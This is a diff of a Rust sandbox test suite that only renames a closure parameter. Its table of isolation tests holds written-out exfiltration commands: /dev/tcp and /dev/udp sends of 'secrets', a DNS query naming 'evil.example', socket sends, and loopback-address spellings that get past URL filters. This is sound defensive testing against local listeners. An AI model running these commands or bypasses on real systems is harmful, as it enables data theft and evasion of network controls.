@@ -25,22 +25,22 @@ fn through_proxy(each: &str) -> String {
 }
 
 const ATTACKS: &[Attack] = &[
-    Attack::new("tcp", "a connection with the network off", |world| {
-        world.script(
+    Attack::new("tcp", "a connection with the network off", |testbed| {
+        testbed.script(
             "hermit",
             "exec 3<>/dev/tcp/127.0.0.1/$TCP && echo secrets >&3",
         )?;
-        Ok(world.heard("tcp"))
+        Ok(testbed.heard("tcp"))
     }),
-    Attack::new("udp", "a datagram with the network off", |world| {
-        world.script(
+    Attack::new("udp", "a datagram with the network off", |testbed| {
+        testbed.script(
             "hermit",
             "echo secrets > /dev/udp/127.0.0.1/$UDP; sleep 0.1",
         )?;
-        Ok(world.heard("udp"))
+        Ok(testbed.heard("udp"))
     }),
-    Attack::new("dns", "a DNS query whose name is the secret", |world| {
-        world.script(
+    Attack::new("dns", "a DNS query whose name is the secret", |testbed| {
+        testbed.script(
             "hermit",
             "python3 - <<'PY'\nimport os, socket, struct\n\
              name = b''.join(bytes([len(p)]) + p for p in (b'secret', b'evil', b'example')) + b'\\0'\n\
@@ -48,139 +48,139 @@ const ATTACKS: &[Attack] = &[
              s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
              s.sendto(query, ('127.0.0.1', int(os.environ['UDP'])))\nPY\nsleep 0.1",
         )?;
-        Ok(world.heard("udp"))
+        Ok(testbed.heard("udp"))
     }),
     Attack::new(
         "unix-socket",
         "a Unix socket outside of the work tree",
-        |world| {
-            world.script(
+        |testbed| {
+            testbed.script(
             "hermit",
             "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ['UNIX']); \
              s.send(b'secrets')\"; sleep 0.1",
         )?;
-            Ok(world.heard("unix"))
+            Ok(testbed.heard("unix"))
         },
     ),
-    Attack::new("abstract-socket", "an abstract Unix socket", |world| {
-        world.script(
+    Attack::new("abstract-socket", "an abstract Unix socket", |testbed| {
+        testbed.script(
             "hermit",
             "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); \
              s.connect(chr(0)+os.environ['ABSTRACT']); s.send(b'secrets')\"; sleep 0.1",
         )?;
-        Ok(world.heard("abstract"))
+        Ok(testbed.heard("abstract"))
     }),
     Attack::new(
         "abstract-socket-online",
         "an abstract Unix socket, with the network on",
-        |world| {
-            world.script(
+        |testbed| {
+            testbed.script(
                 "hostile",
                 "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); \
              s.connect(chr(0)+os.environ['ABSTRACT']); s.send(b'secrets')\"; sleep 0.1",
             )?;
-            Ok(world.heard("abstract"))
+            Ok(testbed.heard("abstract"))
         },
     ),
     Attack::new(
         "fetch-loopback",
         "fetch_url of a service on this machine",
-        |world| {
-            let url = format!("http://127.0.0.1:{}/", world.listeners.tcp);
-            world.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
-            Ok(world.heard("tcp"))
+        |testbed| {
+            let url = format!("http://127.0.0.1:{}/", testbed.listeners.tcp);
+            testbed.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
+            Ok(testbed.heard("tcp"))
         },
     ),
     Attack::new(
         "fetch-name",
         "the same by a name that resolves to it",
-        |world| {
-            let url = format!("http://localhost:{}/", world.listeners.tcp);
-            world.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
-            Ok(world.heard("tcp"))
+        |testbed| {
+            let url = format!("http://localhost:{}/", testbed.listeners.tcp);
+            testbed.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
+            Ok(testbed.heard("tcp"))
         },
     ),
-    Attack::new("fetch-number", "the same as one decimal number", |world| {
-        let url = format!("http://2130706433:{}/", world.listeners.tcp);
-        world.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
-        Ok(world.heard("tcp"))
+    Attack::new("fetch-number", "the same as one decimal number", |testbed| {
+        let url = format!("http://2130706433:{}/", testbed.listeners.tcp);
+        testbed.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
+        Ok(testbed.heard("tcp"))
     }),
     Attack::new(
         "fetch-mapped",
         "the same as an IPv6 address that stands for it",
-        |world| {
-            let url = format!("http://[::ffff:127.0.0.1]:{}/", world.listeners.tcp);
-            world.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
-            Ok(world.heard("tcp"))
+        |testbed| {
+            let url = format!("http://[::ffff:127.0.0.1]:{}/", testbed.listeners.tcp);
+            testbed.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
+            Ok(testbed.heard("tcp"))
         },
     ),
-    Attack::new("fetch-offline", "fetch_url with the network off", |world| {
-        let url = format!("http://127.0.0.1:{}/", world.listeners.tcp);
-        world.tool("fetching-hermit", "fetch_url", &json!({ "url": url }))?;
-        Ok(world.heard("tcp"))
+    Attack::new("fetch-offline", "fetch_url with the network off", |testbed| {
+        let url = format!("http://127.0.0.1:{}/", testbed.listeners.tcp);
+        testbed.tool("fetching-hermit", "fetch_url", &json!({ "url": url }))?;
+        Ok(testbed.heard("tcp"))
     }),
     Attack::new(
         "list-direct",
         "a host that is not in the list, without the proxy",
-        |world| {
-            world.script(
+        |testbed| {
+            testbed.script(
                 "listed",
                 "unset HTTP_PROXY http_proxy; exec 3<>/dev/tcp/127.0.0.1/$TCP && echo secrets >&3",
             )?;
-            Ok(world.heard("tcp"))
+            Ok(testbed.heard("tcp"))
         },
     )
     .needs(Needs::Workspace),
     Attack::new(
         "list-proxy",
         "the proxy of a list of hosts, asked for another one in several spellings",
-        |world| {
-            world.script("listed", &through_proxy("for host in ('127.0.0.1', '2130706433', 'localhost', '127.1'):\n"))?;
-            Ok(world.heard("tcp"))
+        |testbed| {
+            testbed.script("listed", &through_proxy("for host in ('127.0.0.1', '2130706433', 'localhost', '127.1'):\n"))?;
+            Ok(testbed.heard("tcp"))
         },
     )
     .needs(Needs::Workspace),
     Attack::new(
         "list-redirect",
         "a listed host that redirects to another one",
-        |world| {
-            world.script(
+        |testbed| {
+            testbed.script(
                 "listed",
                 &format!(
                     "python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:{}/', timeout=2)\"",
-                    world.listeners.redirecting
+                    testbed.listeners.redirecting
                 ),
             )?;
-            Ok(world.heard("tcp"))
+            Ok(testbed.heard("tcp"))
         },
     )
     .needs(Needs::Workspace),
     Attack::new(
         "list-datagram",
         "a DNS query with a list of hosts",
-        |world| {
-            world.script("listed", "echo secrets > /dev/udp/127.0.0.1/$UDP; sleep 0.1")?;
-            Ok(world.heard("udp"))
+        |testbed| {
+            testbed.script("listed", "echo secrets > /dev/udp/127.0.0.1/$UDP; sleep 0.1")?;
+            Ok(testbed.heard("udp"))
         },
     )
     .needs(Needs::Workspace),
     Attack::new(
         "list-fetch",
         "fetch_url of a host that is not in the list",
-        |world| {
-            let url = format!("http://127.0.0.1:{}/", world.listeners.tcp);
-            world.tool("listed-fetcher", "fetch_url", &json!({ "url": url }))?;
-            Ok(world.heard("tcp"))
+        |testbed| {
+            let url = format!("http://127.0.0.1:{}/", testbed.listeners.tcp);
+            testbed.tool("listed-fetcher", "fetch_url", &json!({ "url": url }))?;
+            Ok(testbed.heard("tcp"))
         },
     )
     .needs(Needs::Workspace),
     Attack::new(
         "fetch-redirect",
         "an allowed host that redirects elsewhere",
-        |world| {
-            let url = format!("http://127.0.0.1:{}/", world.listeners.redirecting);
-            world.tool("led", "fetch_url", &json!({ "url": url }))?;
-            Ok(world.heard("tcp"))
+        |testbed| {
+            let url = format!("http://127.0.0.1:{}/", testbed.listeners.redirecting);
+            testbed.tool("led", "fetch_url", &json!({ "url": url }))?;
+            Ok(testbed.heard("tcp"))
         },
     ),
 ];
